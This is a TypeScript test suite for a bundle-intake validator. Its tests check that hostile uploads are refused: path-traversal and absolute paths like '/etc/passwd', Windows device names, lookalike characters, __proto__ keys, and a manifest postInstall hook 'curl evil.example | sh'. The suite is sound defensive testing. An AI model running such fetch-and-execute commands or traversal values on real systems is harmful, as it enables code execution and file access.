import fc from "fast-check";
import { expect, test } from "vitest";
import { Finding } from "#core/contract/validation.ts";
import { bundleEntries, SOUND_CODE, SOUND_MANIFEST } from "#test/bundle-kit.ts";
import { takeIn } from "./intake.ts";
import { BUNDLE_RULES } from "./rules.ts";

/** The rules a bundle breaks. */
function rulesOf(changes: Readonly<Record<string, string | Uint8Array | undefined>>): string[] {
  return takeIn(bundleEntries(changes)).findings.map(({ rule }) => rule);
}

test("BND-000: a bundle as it should be is taken in whole, and nothing is wrong with it", () => {
  const intake = takeIn(
    bundleEntries({ "csv.ts": "export const one = 1;\n", "data/rows.csv": "a,b", "README.md": "# A" }),
  );
  expect(intake.findings).toEqual([]);
  expect(intake.manifest?.name).toBe("sample");
  expect([...intake.sources.keys()]).toEqual(["csv.ts", "module.ts"]);
  expect(intake.sources.get("module.ts")).toBe(SOUND_CODE);
  expect([...intake.data]).toEqual([["rows.csv", "a,b"]]);
  expect(intake.tests).toMatchObject([{ name: "a look is answered", capability: "look", timeZone: "UTC" }]);
  expect(intake.hashes.bundle).toBe(intake.sha256);
  expect(new Set(Object.values(intake.hashes)).size).toBe(5);
});

test("a WebAssembly module has its binary instead of TypeScript", () => {
  const wasm = new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]);
  const intake = takeIn(bundleEntries({ "module.ts": undefined, "module.wasm": wasm }));
  expect(intake.findings).toEqual([]);
  expect(intake.wasm).toEqual(wasm);
  expect(intake.sources.size).toBe(0);
});

test.each([
  ["BND-001: a name that leads out of the bundle", "../../etc/cron.d/x", "bundle.name"],
  ["BND-001: a name that leads out by a way round", "data/../../x", "bundle.name"],
  ["BND-002: an absolute path", "/etc/passwd", "bundle.name"],
  ["BND-003: a way out in backslashes", "a\\..\\..\\x.ts", "bundle.name"],
  ["BND-004: a Windows drive", "c:/x.ts", "bundle.name"],
  ["BND-004: a Windows share", "\\\\server\\share\\x.ts", "bundle.name"],
  ["BND-004: a share in plain slashes", "//server/share/x.ts", "bundle.name"],
  ["BND-007: a name that differs by letter case", "Module.ts", "bundle.duplicate"],
  ["BND-009: full-width letters", "\uff4dodule.ts", "bundle.duplicate"],
  ["BND-009: letters of another alphabet that look the same", "m\u043edule.ts", "bundle.name"],
  ["BND-010: a NUL in a name", "module.ts\u0000.png", "bundle.name"],
  ["BND-010: a line break in a name", "csv\n.ts", "bundle.name"],
  ["BND-011: a package manager's file", "package.json", "bundle.kind"],
  ["BND-011: a package manager's file among the data", "data/package.json", "bundle.kind"],
  ["BND-011: a package", "node_modules/evil/index.ts", "bundle.kind"],
  ["BND-011: a compiler's settings", "tsconfig.json", "bundle.kind"],
  ["BND-012: native code", "x.node", "bundle.kind"],
  ["BND-012: native code among the data", "data/x.so", "bundle.kind"],
  ["BND-013: a hidden file", ".npmrc", "bundle.name"],
  ["BND-013: a hidden folder", ".git/config", "bundle.name"],
  ["BND-014: a device of Windows", "con.ts", "bundle.name"],
  ["BND-014: a device of Windows as a folder", "data/lpt1/x.txt", "bundle.name"],
  ["BND-015: a dot at the end", "x.ts.", "bundle.name"],
  ["BND-015: a blank at the end", "x.ts ", "bundle.name"],
  ["a folder too deep", "data/a/b/c/d/e/f.txt", "bundle.name"],
  ["a name too long", `${"a".repeat(80)}.ts`, "bundle.name"],
  ["an archive in the bundle", "data/more.zip", "bundle.kind"],
  ["a program that tests", "module.test.ts", "bundle.kind"],
  ["a script of another language", "setup.sh", "bundle.kind"],
  ["JavaScript beside the TypeScript", "module.js", "bundle.kind"],
  ["a file within a file", "module.ts/more.ts", "bundle.duplicate"],
])("%s is refused", (_case, path, rule) => {
  const { findings } = takeIn(bundleEntries({ [path]: "" }));
  expect(findings.map((finding) => finding.rule)).toContain(rule);
  expect(findings.every((finding) => /^[\x20-\x7e]*$/.test(finding.file ?? ""))).toBe(true);
});

test("BND-008: two ways to write the same letter are one name", () => {
  const composed = "data/caf\u00e9.txt";
  const { findings } = takeIn(bundleEntries({ [composed]: "1", [composed.normalize("NFD")]: "2" }));
  expect(findings.filter(({ rule }) => rule === "bundle.name")).toHaveLength(2);
  expect(findings).toContainEqual(
    expect.objectContaining({
      rule: "bundle.duplicate",
      message: String.raw`“data/caf\u{e9}.txt” and “data/cafe\u{301}.txt” are one name`,
    }),
  );
});

test("BND-016: more files than a bundle has are refused", () => {
  const many = Object.fromEntries(Array.from({ length: 62 }, (_, index) => [`data/${index}.txt`, "x"]));
  expect(rulesOf(many)).toEqual(["bundle.count"]);
});

test.each([
  ["a source beyond 256 KiB", { "csv.ts": " ".repeat(262_145) }, "csv.ts"],
  ["sources beyond 512 KiB together", { "a.ts": " ".repeat(262_144), "b.ts": " ".repeat(262_144) }, undefined],
  ["data beyond 512 KiB together", { "data/a": " ".repeat(300_000), "data/b": " ".repeat(300_000) }, undefined],
  [
    "a manifest beyond 128 KiB",
    { "manifest.json": `${JSON.stringify(SOUND_MANIFEST)}${" ".repeat(131_072)}` },
    "manifest.json",
  ],
  ["a file of tests beyond 256 KiB", { "tests/look.json": `[${" ".repeat(262_144)}]` }, "tests/look.json"],
  ["a binary beyond 1 MiB", { "module.ts": undefined, "module.wasm": new Uint8Array(1_048_577) }, "module.wasm"],
])("BND-016: %s is refused", (_case, changes, file) => {
  const { findings } = takeIn(bundleEntries(changes));
  expect(findings.map((finding) => [finding.rule, finding.file])).toEqual([["bundle.size", file]]);
});

test("BND-020: where one file ends and the next begins is part of a bundle's identity", () => {
  const one = takeIn(bundleEntries({ "data/a": "xy", "data/b": "z" }));
  const two = takeIn(bundleEntries({ "data/a": "x", "data/b": "yz" }));
  expect(one.sha256).not.toBe(two.sha256);
});

test("BND-021: the order in which the files came is not", () => {
  const entries = bundleEntries({ "data/a": "xy", "data/b": "z" });
  const turned = new Map([...entries].reverse());
  expect(takeIn(turned)).toEqual(takeIn(entries));
});

test("BND-022: one byte changed anywhere, in a test or the README too, is another bundle", () => {
  const entries = bundleEntries({ "data/a": "xy", "README.md": "# A" });
  const { sha256 } = takeIn(entries);
  const others = [...entries].map(([path, bytes]) => {
    const changed = Buffer.from(bytes);
    changed[0] = (changed[0] ?? 0) ^ 1;
    return takeIn(new Map(entries).set(path, changed)).sha256;
  });
  expect(new Set([sha256, ...others]).size).toBe(entries.size + 1);
});

test.each([
  ["no manifest", { "manifest.json": undefined }, ["bundle.missing"]],
  ["no beginning", { "module.ts": undefined }, ["bundle.missing"]],
  ["two beginnings", { "module.wasm": new Uint8Array([0]) }, ["bundle.entry"]],
  ["code that is no text", { "module.ts": new Uint8Array([0xff, 0xfe, 0]) }, ["bundle.text"]],
  ["data that is no text", { "data/x.png": new Uint8Array([0x89, 0x50, 0x4e, 0x47]) }, ["bundle.text"]],
  ["an archive under the name of a text", { "data/x.txt": "PK\u0003\u0004\u0000\u0000" }, ["bundle.text"]],
  ["a manifest that is no JSON", { "manifest.json": "{" }, ["manifest.json"]],
  [
    "a manifest that wants the host",
    { "manifest.json": JSON.stringify({ ...SOUND_MANIFEST, runtime: "host" }) },
    ["manifest.runtime"],
  ],
  ["tests that are no JSON", { "tests/look.json": "[{]" }, ["tests.json"]],
  ["tests that are no list", { "tests/look.json": "{}" }, ["tests.schema"]],
])("a bundle with %s is refused for that alone", (_case, changes, rules) => {
  expect(rulesOf(changes)).toEqual(rules);
});

test("every problem of a manifest is named at its line, the unknown key and the nested value too", () => {
  const manifest = JSON.stringify(SOUND_MANIFEST, undefined, 2)
    .replace('"title": "Sample",', "")
    .replace('"version": "1.0.0"', '"version": "one"')
    .replace('"effect": "read"', '"effect": "anything"')
    .replace('"dependencies": {}', '"postInstall": "curl evil.example | sh", "dependencies": {}');
  const { findings } = takeIn(bundleEntries({ "manifest.json": manifest }));
  const lines = manifest.split("\n");
  const at = (text: string) => {
    const line = lines.findIndex((each) => each.includes(text));
    return {
      rule: "manifest.schema",
      file: "manifest.json",
      line: line + 1,
      column: (lines[line]?.indexOf(text) ?? 0) + 1,
    };
  };
  expect(findings).toHaveLength(4);
  expect(findings).toContainEqual(expect.objectContaining(at('"version"')));
  expect(findings).toContainEqual(expect.objectContaining(at('"effect"')));
  expect(findings).toContainEqual(expect.objectContaining(at('"postInstall"')));
  expect(findings.map(({ message }) => message).join()).toContain("title");
});

test.each([
  ["the same key twice", '{"name": "weather", "name": "evil"}', "twice"],
  ["the key __proto__", '{"__proto__": {"name": "evil"}}', "__proto__"],
  ["the key __proto__ in disguise", String.raw`{"\u005f_proto__": {}}`, "__proto__"],
  ["a thousand levels", `${"[".repeat(1_000)}${"]".repeat(1_000)}`, "32 levels"],
  ["a hundred thousand values", `[${"0,".repeat(60_000)}0]`, "50000 values"],
  ["a number beyond all numbers", '{"a": 1e999}', "too large"],
  ["half a letter", String.raw`{"a": "\ud800"}`, "half a letter"],
  ["a comment", '{ // hello\n"a": 1}', "no comments"],
  ["a second value", "{} {}", "nothing may follow"],
])("a manifest with %s is refused", (_case, text, words) => {
  const { findings } = takeIn(bundleEntries({ "manifest.json": text }));
  expect(findings).toMatchObject([{ rule: "manifest.json", line: 1, message: expect.stringContaining(words) }]);
});

test("a test of a capability that is not there, and a second one of the same name, are named where they stand", () => {
  const tests = [
    { name: "a look is answered", capability: "look", expect: {} },
    { name: "a look is answered", capability: "look", expect: {} },
    { name: "nobody sleeps", capability: "sleep", expect: {} },
  ];
  const { findings } = takeIn(bundleEntries({ "tests/look.json": JSON.stringify(tests, undefined, 1) }));
  expect(findings).toMatchObject([
    { rule: "tests.name", file: "tests/look.json", line: 8, column: 3 },
    { rule: "tests.capability", file: "tests/look.json", line: 14, column: 3 },
  ]);
});

test("an answer of neither form in a test is told what the nearer form lacks", () => {
  const exchange = { request: { url: "https://a.example.com/" }, answer: { status: 99, body: "" } };
  const tests = [{ name: "a look", capability: "look", exchanges: [exchange], expect: {} }];
  const { findings } = takeIn(bundleEntries({ "tests/look.json": JSON.stringify(tests) }));
  expect(findings.map(({ message }) => message).join()).toContain(
    "“[0].exchanges[0].answer.status” must be at least 100",
  );
});

test("what a stranger wrote is shown in a finding so that nothing in it works", () => {
  const name = "\u202egnp.exe\u001b[31m";
  const { findings } = takeIn(bundleEntries({ [name]: "", "manifest.json": '{"\\u202e": 1, "\\u202e": 2}' }));
  expect(findings.length).toBeGreaterThan(1);
  for (const { message, file } of findings) expect(`${message}${file}`).not.toMatch(/[\p{C}]/u);
});

test("whatever is handed in, taking it in ends in findings that anybody can read, and never in an error", () => {
  const path = fc.oneof(
    fc.string({ unit: "binary", maxLength: 40 }),
    fc.constantFrom(
      "manifest.json",
      "module.ts",
      "module.wasm",
      "data/x",
      "tests/x.json",
      "README.md",
      "MODULE.TS",
      "data",
    ),
  );
  const json = fc.json({ maxDepth: 6 }).map((text) => Buffer.from(text));
  const content = fc.oneof(
    fc.uint8Array({ maxLength: 200 }),
    fc.string({ unit: "binary" }).map((text) => Buffer.from(text)),
    json,
  );
  fc.assert(
    fc.property(fc.array(fc.tuple(path, content), { maxLength: 12 }), (files) => {
      const { findings } = takeIn(new Map(files));
      for (const finding of findings) {
        expect(Finding.parse(finding)).toEqual(finding);
        expect(BUNDLE_RULES).toHaveProperty([finding.rule]);
      }
    }),
    { numRuns: 500 },
  );
});

test("a manifest changed anywhere is either a manifest or refused, and never an error", () => {
  const text = JSON.stringify(SOUND_MANIFEST);
  const change = fc.tuple(fc.nat({ max: text.length }), fc.nat({ max: 6 }), fc.string({ maxLength: 4 }));
  fc.assert(
    fc.property(change, ([at, length, put]) => {
      const changed = text.slice(0, at) + put + text.slice(at + length);
      const { manifest, findings } = takeIn(bundleEntries({ "manifest.json": changed }));
      expect(findings.some(({ rule }) => rule.startsWith("manifest.")) || manifest !== undefined).toBe(true);
    }),
    { numRuns: 500 },
  );
});
